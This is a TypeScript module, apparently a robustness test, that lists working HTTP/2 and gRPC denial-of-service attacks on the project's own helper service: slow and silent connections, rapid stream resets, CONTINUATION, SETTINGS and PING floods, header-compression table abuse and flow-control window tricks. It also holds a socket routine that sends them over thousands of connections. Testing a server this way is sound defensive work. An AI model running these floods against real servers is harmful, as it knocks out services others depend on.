/** What a process that can connect to the helper's service might send to take it away from Envoy. */
import * as net from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import {
  block,
  callBlock,
  flags,
  frame,
  messageStart,
  openCall,
  preface,
  reset,
  settings,
  types,
} from './frames.ts';

export interface Attack {
  readonly name: string;
  /** Connections at once. */
  readonly connections: number;
  /** What each of them sends, piece by piece; nothing: it is silent. */
  readonly pieces: () => Iterable<Buffer>;
  /** Does not read what comes back. */
  readonly isDeaf?: boolean;
  /** Takes many seconds of a core. */
  readonly isLong?: boolean;
  /** Milliseconds between pieces. */
  readonly pauseMs?: number;
}

const start = [preface, settings([4, 1_048_576])];
const odd = (count: number): number[] => Array.from({ length: count }, (_, index) => 2 * index + 1);
const wideWindow = frame([types.windowUpdate, 0, 0], Buffer.from([0x3f, 0, 0, 0]));

/** Joins small pieces, so that sending is not what takes the time. */
function* batched(pieces: Iterable<Buffer>, bytes = 65_536): Iterable<Buffer> {
  let waiting: Buffer[] = [];
  let size = 0;
  for (const piece of pieces) {
    waiting.push(piece);
    size += piece.length;
    if (size < bytes) continue;
    yield Buffer.concat(waiting);
    [waiting, size] = [[], 0];
  }
  yield Buffer.concat(waiting);
}

function times(count: number, make: (stream: number) => Buffer): () => Iterable<Buffer> {
  return function* pieces(): Iterable<Buffer> {
    yield* start;
    yield* batched(odd(count).map(make));
  };
}

const unfinished = (stream: number, bytes: number): Buffer =>
  Buffer.concat([
    openCall(stream),
    frame([types.data, flags.none, stream], messageStart(bytes, 900_000)),
  ]);
const small = Buffer.from([0, 0, 0, 0, 1, 0x78]);
const cutShort = (stream: number): Buffer =>
  Buffer.concat([
    openCall(stream),
    frame([types.data, flags.endStream, stream], messageStart(100, 900_000)),
  ]);
const bigFields = callBlock('/test/Echo', [['x-big', 'x'.repeat(12_000)]]);
const pageFields = block([
  [':method', 'GET'],
  [':scheme', 'http'],
  [':path', '/page'],
  [':authority', 'helper'],
]);
const whole = Buffer.concat([Buffer.from([0, 0, 0, 0x3f, 0xf0]), Buffer.alloc(0x3ff0)]);

/** Of a type that nobody knows, so that everybody steps over it (RFC 9113 §4.1). */
const filling = frame([0xfa, flags.none, 0], Buffer.alloc(16_000));
/** 64 kB in which one small thing is. */
const among = (...some: readonly Buffer[]): Buffer =>
  Buffer.concat([...some, filling, filling, filling, filling]);
const wholeCall = (stream: number, path?: string): Buffer =>
  Buffer.concat([
    openCall(stream, callBlock(path)),
    frame([types.data, flags.endStream, stream], small),
  ]);
/** A field that the table of the connection keeps, and a number for it of one byte. */
const keptField = Buffer.concat([
  Buffer.from([0x40]),
  block([['y'.repeat(3_900), '']]).subarray(1),
]);
const itsNumber = 0xbe;
/** Their name is that of the newest field. */
const emptyFields = Buffer.concat(Array<Buffer>(7_000).fill(Buffer.from([0x7e, 0])));
const tooWide = (stream: number): Buffer =>
  frame([types.windowUpdate, flags.none, stream], Buffer.from([0x7f, 0xff, 0xff, 0xff]));

const openPage = (stream: number): Buffer => openCall(stream, pageFields);

export const attacks: readonly Attack[] = [
  { name: 'silent connections', connections: 3_000, pieces: () => [] },
  {
    name: 'half a preface',
    connections: 3_000,
    pieces: () => [preface.subarray(0, 10)],
  },
  {
    name: 'a preface, letter by letter',
    connections: 500,
    pieces: () => [...preface.subarray(0, 20)].map((byte) => Buffer.from([byte])),
    pauseMs: 100,
  },
  { name: 'a preface and nothing more', connections: 3_000, pieces: () => [preface, settings()] },
  {
    name: 'calls that are reset in the middle of their message',
    connections: 1,
    pieces: times(200, (stream) => Buffer.concat([unfinished(stream, 100), reset(stream)])),
  },
  {
    name: 'calls that end in the middle of their message and are reset at once',
    connections: 1,
    pieces: times(10, (stream) => Buffer.concat([cutShort(stream), reset(stream)])),
  },
  {
    name: 'calls with another content-length than they have',
    connections: 1,
    pieces: times(200, (stream) =>
      Buffer.concat([
        openCall(stream, callBlock('/test/Echo', [['content-length', '3']])),
        frame([types.data, flags.endStream, stream], messageStart(100, 95)),
      ]),
    ),
  },
  {
    name: 'whole calls that are reset at once, quick and slow ones, known and unknown',
    connections: 1,
    pieces: times(400, (stream) => {
      const path = ['/test/Echo', '/test/Slow', '/test/Throw', '/test/None', '/test/Chat'][
        stream % 5
      ];
      const message = frame([types.data, flags.endStream, stream], small);
      return Buffer.concat([openCall(stream, callBlock(path)), message, reset(stream)]);
    }),
  },
  {
    name: 'calls that end in the middle of their message, and the connection with them',
    connections: 100,
    pieces: times(10, (stream) => unfinished(stream, 100)),
  },
  {
    name: '4,000 calls with the first 16 kB of a message',
    connections: 2,
    pieces: () => times(2_000, (stream) => unfinished(stream, 16_000))(),
  },
  {
    name: '4,000 calls with one byte each, among 64 kB of other frames',
    connections: 1,
    pieces: function* pieces(): Iterable<Buffer> {
      yield* start;
      for (const stream of odd(4_000)) yield among(unfinished(stream, 1));
    },
  },
  {
    name: '1 MB in messages of one byte a frame',
    isLong: true,
    connections: 1,
    pieces: function* pieces(): Iterable<Buffer> {
      yield* start;
      yield wideWindow;
      yield openCall(1);
      yield frame([types.data, flags.none, 1], messageStart(5, 1_000_000));
      const byte = frame([types.data, flags.none, 1], Buffer.from([1]));
      yield* batched(Array.from({ length: 300_000 }, () => byte));
    },
  },
  {
    name: '8,000 calls with headers of 12 kB and no message',
    connections: 2,
    pieces: times(4_000, (stream) => openCall(stream, bigFields)),
  },
  {
    name: '200,000 calls that are reset at once',
    isLong: true,
    connections: 1,
    pieces: times(200_000, (stream) => Buffer.concat([openCall(stream), reset(stream)])),
  },
  {
    name: 'headers without an end (CONTINUATION)',
    connections: 1,
    pieces: function* pieces(): Iterable<Buffer> {
      yield* start;
      yield frame([types.headers, flags.none, 1], callBlock());
      const more = frame([types.continuation, flags.none, 1], block([['x', 'y'.repeat(8_000)]]));
      yield* batched(Array.from({ length: 20_000 }, () => more));
    },
  },
  {
    name: 'headers of many small fields',
    isLong: true,
    connections: 10,
    pieces: times(50, (stream) =>
      openCall(
        stream,
        callBlock(
          '/test/Echo',
          Array.from({ length: 3_000 }, () => ['a', ''] as const),
        ),
      ),
    ),
  },
  {
    name: '300,000 SETTINGS, answers unread',
    connections: 1,
    pieces: function* pieces(): Iterable<Buffer> {
      yield* start;
      yield* batched(Array.from({ length: 300_000 }, () => settings([3, 100])));
    },
    isDeaf: true,
  },
  {
    name: '300,000 PINGs, answers unread',
    connections: 1,
    pieces: function* pieces(): Iterable<Buffer> {
      yield* start;
      const ping = frame([types.ping, flags.none, 0], Buffer.alloc(8));
      yield* batched(Array.from({ length: 300_000 }, () => ping));
    },
    isDeaf: true,
  },
  {
    name: '8,000 answers of 16 kB for which there is no window',
    connections: 2,
    pieces: function* pieces(): Iterable<Buffer> {
      yield preface;
      yield settings([4, 0]);
      yield wideWindow;
      for (const stream of odd(4_000)) {
        const message = frame([types.data, flags.endStream, stream], whole);
        yield Buffer.concat([openCall(stream), message]);
      }
    },
  },
  {
    name: '80,000 calls of a method that does not exist, never ended',
    connections: 20,
    pieces: times(4_000, (stream) => openCall(stream, callBlock('/test/None'))),
  },
  {
    name: '80,000 whole calls, as fast as they can be sent',
    connections: 20,
    pieces: times(4_000, (stream) => wholeCall(stream)),
  },
  {
    name: '80,000 requests for a page, never ended',
    connections: 20,
    pieces: times(4_000, openPage),
  },
  {
    // Node makes the streams of 64 KB of each connection before anybody hears of the first.
    name: '100,000 requests for a page, of each connection in one piece',
    connections: 100,
    pieces: () => [Buffer.concat([...start, ...odd(1_000).map(openPage)])],
  },
  {
    name: '1,000 calls whose message is whole and that never end, each among 64 kB of other frames',
    connections: 1,
    pieces: function* pieces(): Iterable<Buffer> {
      yield* start;
      for (const stream of odd(1_000))
        yield among(
          openCall(stream, callBlock('/test/Rule')),
          frame([types.data, flags.none, stream], small),
        );
    },
  },
  {
    name: 'windows of 1,000 streams changed 2,700 times a frame',
    connections: 1,
    pieces: function* pieces(): Iterable<Buffer> {
      yield* start;
      yield Buffer.concat(odd(1_000).map((stream) => openCall(stream)));
      const sizes = Array.from({ length: 2_700 }, (_, at) => [4, at] as const);
      yield* batched(Array.from({ length: 300 }, () => settings(...sizes)));
    },
  },
  {
    name: 'trailers that name a field of 4 kB 16,000 times',
    connections: 1,
    pieces: function* pieces(): Iterable<Buffer> {
      yield* start;
      yield openCall(1, Buffer.concat([callBlock(), keptField]));
      const trailers = Buffer.alloc(16_000, itsNumber);
      for (const stream of odd(600))
        yield Buffer.concat([
          openCall(stream + 2),
          frame([types.headers, flags.endHeaders | flags.endStream, stream + 2], trailers),
        ]);
    },
  },
  {
    name: 'headers of 7,000 fields that the table must keep',
    connections: 1,
    // Empty ones, named by the one before.
    pieces: times(400, (stream) =>
      openCall(stream, Buffer.concat([callBlock(), Buffer.from([0x40, 1, 0x61, 0]), emptyFields])),
    ),
  },
  {
    name: '60,000 whole calls that we are made to reset',
    connections: 1,
    pieces: times(60_000, (stream) =>
      Buffer.concat([wholeCall(stream, '/test/Slow'), tooWide(stream)]),
    ),
  },
];

/** Sends it all; resolves when everything is sent or refused. @returns how to let go of the connections */
export async function carryOut(attack: Attack, where: net.NetConnectOpts): Promise<() => void> {
  const sockets: net.Socket[] = [];
  const sent: Promise<void>[] = [];
  for (let index = 0; index < attack.connections; index += 1) {
    const socket = net.connect(where);
    sockets.push(socket);
    socket.on('error', () => undefined);
    if (attack.isDeaf !== true) socket.on('data', () => undefined);
    sent.push(sendAll(socket, attack));
    if (index % 50 === 49) await sleep(1);
  }
  await Promise.all(sent);
  return () => {
    for (const socket of sockets) socket.destroy();
  };
}

async function sendAll(socket: net.Socket, attack: Attack): Promise<void> {
  const isOver = new Promise<'over'>((resolve) =>
    socket.once('close', () => {
      resolve('over');
    }),
  );
  /** Milliseconds after which a server that takes nothing more counts as closed. */
  const stuck = new Promise<'over'>((resolve) => {
    setTimeout(() => {
      resolve('over');
    }, 15_000).unref();
  });
  await Promise.race([isOver, new Promise((resolve) => socket.once('connect', resolve)), stuck]);
  for (const piece of attack.pieces()) {
    if (socket.destroyed) return;
    if (attack.pauseMs !== undefined) await sleep(attack.pauseMs);
    if (socket.write(piece)) continue;
    const drained = new Promise((resolve) => socket.once('drain', resolve));
    if ((await Promise.race([drained, isOver, stuck])) === 'over') return;
  }
}
